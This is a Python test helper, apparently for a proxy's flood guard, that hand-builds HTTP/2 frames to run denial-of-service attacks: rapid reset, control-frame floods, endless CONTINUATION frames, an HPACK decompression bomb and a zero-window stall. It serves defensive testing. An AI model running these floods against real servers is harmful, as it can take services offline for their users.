"""Raw HTTP/2 attacks (hand-built frames over a socket, `h2` only for HPACK) for the flood-guard
tests.

usage: h2flood.py HOST:PORT ATTACK [COUNT]
ATTACK: rapid_reset | ping | settings | empty_data | priority | window_update | continuation |
        hpack_bomb | zero_window
Sends the attack as fast as the socket takes it, then reads until the proxy closes or 5 s
pass. Prints JSON: {"goaway": <error code or null>, "closed": bool, "rst": <RST_STREAM count>,
"sent": <frames sent>, "status": <first :status seen or null>}.
"""
import json
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(pairs=()):
    return frame(0x4, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def headers_block(enc, authority, path="/name", extra=()):
    return enc.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
                       (":authority", authority)] + list(extra))


def main():
    addr, attack = sys.argv[1], sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 20000
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=5)
    enc = hpack.Encoder()
    init = [(0x4, 0)] if attack == "zero_window" else []  # SETTINGS_INITIAL_WINDOW_SIZE = 0
    s.sendall(PREFACE + settings(init))
    sent = 0
    out = bytearray()
    try:
        if attack == "rapid_reset":
            for i in range(count):
                sid = 1 + 2 * i
                out += frame(0x1, 0x5, sid, headers_block(enc, addr))  # HEADERS END_STREAM|END_HEADERS
                out += frame(0x3, 0, sid, struct.pack(">I", 0x8))     # RST_STREAM CANCEL
                sent += 2
                if len(out) > 32768:
                    s.sendall(out)
                    out.clear()
        elif attack in ("ping", "settings", "empty_data", "priority", "window_update"):
            if attack in ("empty_data",):
                s.sendall(frame(0x1, 0x4, 1, headers_block(enc, addr, "/echo", [(":method", "POST")][:0])))
            for i in range(count):
                if attack == "ping":
                    out += frame(0x6, 0, 0, struct.pack(">Q", i))
                elif attack == "settings":
                    out += settings([(0x3, 100)])
                elif attack == "empty_data":
                    out += frame(0x0, 0, 1)
                elif attack == "priority":
                    out += frame(0x2, 0, 1 + 2 * (i % 1000), struct.pack(">IB", 0, 15))
                else:
                    out += frame(0x8, 0, 0, struct.pack(">I", 1))
                sent += 1
                if len(out) > 32768:
                    s.sendall(out)
                    out.clear()
        elif attack == "continuation":
            # A header block that never ends: HEADERS without END_HEADERS, then CONTINUATIONs.
            s.sendall(frame(0x1, 0x1, 1, headers_block(enc, addr)))
            junk = b"\x00" * 16000
            for i in range(count):
                out += frame(0x9, 0, 1, junk)
                sent += 1
                if len(out) > 65536:
                    s.sendall(out)
                    out.clear()
        elif attack == "hpack_bomb":
            # One header inserted into the dynamic table, then referenced thousands of times:
            # a 4 KB block that decodes to 2 MB.
            big = [("x-bomb", "a" * 1000)]
            hb = headers_block(enc, addr)
            s.sendall(frame(0x1, 0x5, 1, hb + enc.encode(big)))
            hb = headers_block(enc, addr)
            ref = enc.encode(big)
            assert len(ref) <= 2, ref
            s.sendall(frame(0x1, 0x5, 3, hb + ref * 2000))
            sent = 2
        elif attack == "zero_window":
            # Ask for a large response while granting no stream window, then wait.
            s.sendall(frame(0x1, 0x5, 1, headers_block(enc, addr, "/big/1000000")))
            sent = 1
        if out:
            s.sendall(out)
    except (BrokenPipeError, ConnectionResetError):
        pass
    result = {"goaway": None, "closed": False, "rst": 0, "sent": sent, "status": None}
    buf = b""
    dec = hpack.Decoder()
    deadline = time.time() + 5
    s.settimeout(0.2)
    while time.time() < deadline:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionResetError, OSError):
            result["closed"] = True
            break
        if not data:
            result["closed"] = True
            break
        buf += data
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            kind, flags = buf[3], buf[4]
            payload = buf[9:9 + n]
            buf = buf[9 + n:]
            if kind == 0x7:
                result["goaway"] = int.from_bytes(payload[4:8], "big")
            elif kind == 0x3:
                result["rst"] += 1
            elif kind == 0x1 and result["status"] is None:
                try:
                    hs = dict(dec.decode(payload))
                    result["status"] = hs.get(":status")
                except Exception:
                    pass
        if attack == "zero_window" and result["rst"]:
            break
    print(json.dumps(result))


main()
